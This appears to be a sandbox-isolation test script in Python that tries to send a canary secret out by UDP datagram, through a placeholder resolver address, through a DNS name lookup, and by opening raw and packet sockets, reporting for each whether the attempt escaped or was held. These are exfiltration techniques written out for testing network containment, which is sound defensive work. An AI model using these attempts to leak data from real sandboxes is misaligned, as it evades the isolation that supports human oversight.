# tries: send a secret by datagram, raw packet and name lookup
import json, os, socket
t = json.loads(os.environ["TARGETS"])
host, port = t["listener"]
def attempt(what, f):
    try:
        f()
        print("ESCAPED:", what)
    except OSError as e:
        print("held:", e.strerror or e)
attempt("datagram", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"canary-secret", (host, port)))
attempt("datagram to a resolver", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"canary-secret", ("192.0.2.53", 53)))
attempt("raw socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt("packet socket", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0))
attempt("name lookup", lambda: socket.getaddrinfo("canary-secret.example.com", 443))
